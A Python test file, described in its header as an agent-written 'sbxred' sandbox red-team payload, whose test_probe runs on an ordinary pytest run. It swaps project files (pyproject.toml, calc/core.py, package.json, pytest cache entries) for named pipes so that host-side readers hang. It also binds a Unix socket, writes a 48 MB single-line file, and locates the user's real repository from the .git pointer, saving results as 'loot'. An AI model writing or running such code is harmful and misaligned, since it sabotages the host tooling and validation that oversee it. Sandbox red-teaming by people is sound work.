"""sbxred payload c08: FIFOs at host-read paths. Written by an agent; GraphLemon runs it inside its sandbox."""
import json
import os
import pathlib
import time


def worktree():
    p = pathlib.Path(__file__).resolve().parent
    while p != p.parent:
        if (p / ".git").exists():
            return p
        p = p.parent
    return pathlib.Path.cwd()


WT = worktree()
LOOT = WT / "calc/loot_c08.json"


def repo_root():
    """The person's repository, from the work tree's .git pointer (gitdir: REPO/.git/worktrees/NAME)."""
    try:
        gd = (WT / ".git").read_text().split(":", 1)[1].strip()
    except Exception:
        return None
    return pathlib.Path(gd.split("/.git/")[0]) if "/.git/" in gd else pathlib.Path(gd).parent


def rd(path, limit=65536):
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode("utf-8", "replace")
    except Exception as e:
        return "ERR " + type(e).__name__ + ": " + str(e)[:200]


def save(data, force=False):
    if LOOT.exists() and not force:
        return
    try:
        LOOT.write_text(json.dumps(data, indent=1, default=str))
    except Exception:
        pass


import socket


def fifo(rel, keep=False):
    p = WT / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    try:
        if p.exists() or p.is_symlink():
            if keep:
                os.rename(p, str(p) + ".sbxred-orig")
            else:
                p.unlink()
        os.mkfifo(p)
        return "fifo"
    except OSError as e:
        return repr(e)


def main():
    res = {}
    save({"note": "written before the FIFOs, so the run is known to have started"}, force=True)
    res["pyproject"] = fifo("pyproject.toml", keep=True)          # framework detection, the validation suite
    res["lastfailed"] = fifo(".pytest_cache/v/cache/lastfailed")  # the last-failed store
    res["nodeids"] = fifo(".pytest_cache/v/cache/nodeids")
    res["core"] = fifo("calc/core.py", keep=True)                 # the unit's code: hints, diff artifact, commit
    res["package_json"] = fifo("package.json")                    # framework markers
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(str(WT / "calc" / "sock_c08"))
        res["socket"] = "bound"
    except OSError as e:
        res["socket"] = repr(e)
    line = WT / "calc" / "line_c08.txt"
    with open(line, "wb") as f:
        for _ in range(48):
            f.write(b"L" * (1 << 20))  # one 48 MB line, no newline
    res["line_bytes"] = line.stat().st_size
    save(res, force=True)
    return res


def test_probe():
    try:
        data = main()
    except Exception as e:
        data = {"error": repr(e)}
    data["end"] = time.time()
    save(data)
